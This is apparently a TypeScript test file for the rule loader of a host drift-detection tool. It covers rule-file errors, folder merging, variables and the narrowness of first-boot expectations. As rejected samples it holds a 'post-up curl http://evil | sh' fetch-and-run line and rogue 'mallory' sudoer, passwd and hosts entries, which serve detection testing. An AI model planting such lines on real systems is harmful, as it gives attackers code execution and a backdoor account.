import t from 'tap';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { checkRules, formatProblem, listRuleFiles, loadRuleSet, parseRuleFile, shippedRulesDir } from '../../../agent/rules/load.js';
import { compileGlob } from '../../../agent/rules/glob.js';
import { substituteVars } from '../../../agent/protocol/vars.js';
import { fixtures, repoRoot } from '../../helpers/paths.js';

const bad = (name: string): string => fixtures('rules', 'bad', name);

/** The problems of one bad fixture, formatted as `drift rules check` prints them. */
async function problemsOf(name: string): Promise<string[]> {
  const r = await checkRules([bad(name)], { shipped: false });
  return r.problems.map(formatProblem);
}

t.test('every kind of error is reported at its file:line:col', async (t) => {
  const cases: Array<[string, string[]]> = [
    ['syntax.yaml', [`${bad('syntax.yaml')}:4:1: YAML syntax error: Flow sequence in block collection must be sufficiently indented and end with a ]`]],
    ['duplicate.yaml', [`${bad('duplicate.yaml')}:6:5: duplicate key "severity" (each key may appear once in a mapping)`]],
    ['not-a-mapping.yaml', [`${bad('not-a-mapping.yaml')}:1:1: a rule file must be a mapping with keys vars, watch, ignore, expect, policy; got a list`]],
    ['unknown-key.yaml', [
      `${bad('unknown-key.yaml')}:2:5: missing key "severity" (a policy rule has match, severity, action, broad)`,
      `${bad('unknown-key.yaml')}:3:5: unknown key "serverity" (allowed: match, severity, action, broad)`,
    ]],
    ['severity.yaml', [`${bad('severity.yaml')}:3:15: severity must be one of low, medium, high, critical, got "urgent"`]],
    ['wrong-type.yaml', [`${bad('wrong-type.yaml')}:3:7: path must be a string, got a list`]],
    ['glob.yaml', [
      `${bad('glob.yaml')}:2:11: path is not a valid glob: unclosed "[", got "/etc/[abc"`,
      `${bad('glob.yaml')}:4:11: path is not a valid glob: unclosed "{", got "/usr/{bin,sbin/**"`,
    ]],
    ['regex.yaml', [`${bad('regex.yaml')}:3:21: lines: "^(unclosed" is not a valid regular expression (Unterminated group)`]],
    ['undefined-var.yaml', [`${bad('undefined-var.yaml')}:2:11: path: undefined variable "\${cloudUser}" (defined: none; define it under vars:)`]],
    ['ignore-subjects.yaml', [
      `${bad('ignore-subjects.yaml')}:2:5: an ignore rule names exactly one of path, process, package, port; this one names path and process (write one rule for each)`,
      `${bad('ignore-subjects.yaml')}:5:5: an ignore rule names exactly one of path, process, package, port; this one names none`,
    ]],
    ['empty-match.yaml', [`${bad('empty-match.yaml')}:2:12: match must name at least one of kind, change, path, name, gains, only (an empty match would judge every finding)`]],
    ['gains-kind.yaml', [`${bad('gains-kind.yaml')}:2:36: gains matches files only, but this match has kind: process`]],
  ];
  for (const [name, expected] of cases) t.same(await problemsOf(name), expected, name);
});

t.test('all problems of one file are reported, in line order', async (t) => {
  const f = fixtures('rules', 'multi', 'many.yaml');
  const r = await checkRules([f], { shipped: false });
  t.same(r.problems.map((p) => `${p.line}:${p.col}: ${p.message}`), [
    '6:14: content must be true, false or "names", got "yes"',
    '7:11: path must be an absolute path glob (starting with /), got "etc/relative"',
    '9:5: missing key "why" (every ignore and expect rule says why, for the person who reads the finding)',
    '12:5: unknown key "serverity" (allowed: match, severity, action, broad)',
    '13:15: severity must be one of low, medium, high, critical, got "urgent"',
    '15:35: path matches files only, but this match has kind: package (use name for packages, processes and ports)',
    '17:13: action must be one of report, replace, ignore, got "sometimes"',
    '20:35: lines: undefined variable "${nobody}" (defined: cloudInitUser; define it under vars:)',
  ]);
  t.ok(r.problems.every((p) => p.file === f));
});

t.test('loadRuleSet refuses bad rules with every problem in the message', async (t) => {
  await t.rejects(loadRuleSet([fixtures('rules', 'multi')], { shipped: false }), {
    name: 'DriftError',
    code: 'DRIFT_ERR_RULES',
    message: /^8 problems in rule files .*\n.*many\.yaml:6:14: content must be[^]*many\.yaml:20:35: lines: undefined variable/,
  });
});

t.test('folders merge in order: files by name, lists concatenated, later vars win', async (t) => {
  const a = fixtures('rules', 'merge', 'a');
  const b = fixtures('rules', 'merge', 'b');
  t.same(await listRuleFiles([a, b], { shipped: false }), [join(a, '05-first.yml'), join(a, '10-base.yaml'), join(b, '50-site.yaml')]);
  const rules = await loadRuleSet([a, b], { shipped: false });
  t.same(rules.vars, { cloudInitUser: 'ec2-user', keep: 'shipped' });
  t.same(rules.watch.map((w) => w.path), ['/boot/**', '/etc/**']);
  t.same(rules.watch[1]?.source, { file: join(a, '10-base.yaml'), line: 5, col: 5 });
  t.same(rules.policy.map((p) => [p.match, p.severity, p.source?.file]), [
    [{ kind: 'package' }, 'high', join(a, '10-base.yaml')],
    [{ kind: 'package', name: 'linux-image-*' }, 'low', join(b, '50-site.yaml')],
  ]);
  t.same(rules.expect[0]?.source, { file: join(b, '50-site.yaml'), line: 5, col: 5 });
  // the site's value is the one an expect path is substituted with
  const expectPath = substituteVars(rules.expect[0]?.path ?? '', rules.vars, 'glob');
  t.equal(expectPath, '/home/ec2-user/**');
  t.ok(compileGlob(expectPath)('/home/ec2-user/.ssh/authorized_keys'));
  t.notOk(compileGlob(expectPath)('/home/admin/.ssh/authorized_keys'));
});

t.test('a variable defined in a later file serves an earlier one', async (t) => {
  const dir = await mkdtemp(join(tmpdir(), 'drift-rules-'));
  t.teardown(() => rm(dir, { recursive: true, force: true }));
  await writeFile(join(dir, '10-uses.yaml'), 'expect:\n  - path: /home/${u}/**\n    why: x\n');
  await writeFile(join(dir, '20-defines.yaml'), 'vars:\n  u: alice\n');
  const r = await checkRules([dir], { shipped: false });
  t.same(r.problems, []);
  t.equal(r.files, 2);
  t.equal(r.rules, 1);
});

t.test('an empty folder adds nothing; a missing one is refused', async (t) => {
  const r = await checkRules([fixtures('rules', 'empty')], { shipped: false });
  t.same(r, { problems: [], files: 0, rules: 0 });
  await t.rejects(checkRules(['/nonexistent/drift/rules.d']), {
    code: 'DRIFT_ERR_RULES',
    message: /rules folder \/nonexistent\/drift\/rules\.d cannot be read \(ENOENT\)/,
  });
});

t.test('the shipped rules pass with zero problems', async (t) => {
  t.equal(shippedRulesDir(), join(repoRoot, 'rules'));
  const r = await checkRules([]);
  t.same(r.problems.map(formatProblem), []);
  t.ok(r.files >= 6, `${r.files} shipped files`);
  t.ok(r.rules >= 50, `${r.rules} shipped rules`);
  const rules = await loadRuleSet([]);
  t.equal(rules.vars['cloudInitUser'], 'admin');
  t.ok(rules.watch.every((w) => w.source?.file.startsWith(shippedRulesDir())));
});

t.test('the shipped first-boot expectations are narrow', async (t) => {
  const rules = await loadRuleSet([]);
  /** Whether every line is accepted by the expect rule(s) whose path matches. */
  const accepts = (path: string, lines: string[]): boolean => {
    const matching = rules.expect.filter((e) => compileGlob(substituteVars(e.path, rules.vars, 'glob'))(path));
    return matching.some((e) => e.lines !== undefined
      && lines.every((l) => e.lines?.some((re) => new RegExp(substituteVars(re, rules.vars, 'regex')).test(l))));
  };
  t.ok(accepts('/etc/passwd', ['admin:x:1000:1000:Debian:/home/admin:/bin/bash']));
  t.notOk(accepts('/etc/passwd', ['mallory:x:1001:1001::/home/mallory:/bin/bash']), 'another user');
  t.notOk(accepts('/etc/passwd', ['admin:x:0:0:root:/home/admin:/bin/bash']), 'the default user as uid 0');
  t.ok(accepts('/etc/group', ['sudo:x:27:', 'sudo:x:27:admin', 'admin:x:1000:']));
  t.ok(accepts('/etc/group', ['adm:x:4:syslog', 'adm:x:4:syslog,admin']), 'Ubuntu adm');
  t.notOk(accepts('/etc/group', ['sudo:x:27:', 'sudo:x:27:mallory']), 'another sudoer');
  t.notOk(accepts('/etc/group', ['sudo:x:27:', 'sudo:x:27:admin,mallory']), 'another sudoer after the user');
  t.ok(accepts('/etc/shadow', ['admin']));
  t.notOk(accepts('/etc/shadow', ['mallory']));
  t.ok(accepts('/etc/sudoers.d/90-cloud-init-users', [
    '# Created by cloud-init v. 22.4.2 on Tue, 25 Nov 2025 00:59:00 +0000', '', '# User rules for admin', 'admin ALL=(ALL) NOPASSWD:ALL',
  ]));
  t.notOk(accepts('/etc/sudoers.d/90-cloud-init-users', ['mallory ALL=(ALL) NOPASSWD:ALL']));
  t.ok(accepts('/etc/hosts', ['127.0.1.1 ip-10-0-0-5.ec2.internal ip-10-0-0-5', '127.0.0.1 localhost', '::1 localhost ip6-localhost ip6-loopback']));
  t.notOk(accepts('/etc/hosts', ['203.0.113.9 updates.example.com']), 'a name mapped elsewhere');
  t.ok(accepts('/etc/machine-id', ['0123456789abcdef0123456789abcdef']));
  t.notOk(accepts('/etc/network/interfaces.d/50-cloud-init', ['    post-up curl http://evil | sh']));
  t.ok(accepts('/etc/network/interfaces.d/50-cloud-init', ['auto eth0', 'iface eth0 inet dhcp']));
});

t.test('parseRuleFile is pure and keeps each rule\'s source', async (t) => {
  const p = parseRuleFile('x.yaml', '# c\nignore:\n  - port: "udp:*:68"\n    why: DHCP client\n');
  t.same(p.problems, []);
  t.same(p.rules.ignore, [{ port: 'udp:*:68', why: 'DHCP client', source: { file: 'x.yaml', line: 3, col: 5 } }]);
  t.same(parseRuleFile('e.yaml', '# only a comment\n').problems, [], 'an empty file is fine');
  t.same(parseRuleFile('v.yaml', 'vars:\n  n: 5\n').problems.map((x) => x.message),
    ['vars.n must be a string, got the number 5 (quote it to make it a string)']);
  t.same(parseRuleFile('p.yaml', 'ignore:\n  - process: "sshd: *"\n    why: x\n').problems.map((x) => `${x.line}:${x.col}`), ['2:14']);
  t.match(parseRuleFile('b.yaml', 'watch:\n  - path: /a|/b\n').problems[0]?.message, /"\|" outside parentheses/);
  t.match(parseRuleFile('w.yaml', 'watch:\n  - path: /home/${u}/**\n').problems[0]?.message, /substituted in expect rules only/);
});

t.test('a rule that drops everything, or everything under a top-level folder, needs broad: true', async (t) => {
  const text = [
    'ignore:',
    '  - path: /**',
    '    why: a',
    '  - path: "/*/**"',
    '    why: b',
    '  - path: /usr/**',
    '    why: c',
    '  - path: "/{etc,opt}/**"',
    '    why: d',
    '  - package: "*"',
    '    why: e',
    '  - process: /**',
    '    why: f',
    '  - port: "*"',
    '    why: g',
    '  - path: /usr/share/doc/**',
    '    why: narrow enough',
    '  - path: /var/**',
    '    why: acknowledged',
    '    broad: true',
    'expect:',
    '  - path: /etc/**',
    '    why: h',
    '  - path: /etc/**',
    '    lines: ["^#"]',
    '    why: lines keep it narrow',
    'policy:',
    '  - match: { kind: port }',
    '    severity: low',
    '    action: ignore',
    '  - match: { kind: package, name: "*" }',
    '    severity: low',
    '    action: report',
    '',
  ].join('\n');
  const r = parseRuleFile('site.yaml', text);
  const { problems } = (await import('../../../agent/rules/load.js')).mergeRuleFiles([r]);
  t.same(problems.map((p) => `${p.line}: ${p.message.replace(/, which blinds.*$/, '')}`), [
    '2: ignore path "/**" drops every path',
    '4: ignore path "/*/**" drops every path',
    '6: ignore path "/usr/**" drops everything under /usr',
    '8: ignore path "/{etc,opt}/**" drops everything under /etc, /opt',
    '10: ignore package "*" drops every package',
    '12: ignore process "/**" drops every process',
    '14: ignore port "*" drops every port',
    '22: expect path "/etc/**" (without lines) drops everything under /etc',
    '28: this policy rule (action ignore) drops every port finding',
  ]);
  t.match(problems[0]?.message, /add "broad: true" to acknowledge that it must be so$/);
});

t.test('a path glob must start with /: "**/x" passed the check and then failed collection', async (t) => {
  const r = await checkRules([], { shipped: true });
  t.equal(r.problems.length, 0);
  const parsed = parseRuleFile('x.yaml', 'watch:\n  - path: "**/id_rsa"\nexpect:\n  - path: "**/x"\n    why: y\n');
  const { problems } = (await import('../../../agent/rules/load.js')).mergeRuleFiles([parsed]);
  t.same(problems.map((p) => p.message), [
    'path must be an absolute path glob (starting with /), got "**/id_rsa" (write "/**/id_rsa" for a name at any depth)',
    'path must be an absolute path glob (starting with /), got "**/x" (write "/**/x" for a name at any depth)',
  ]);
});
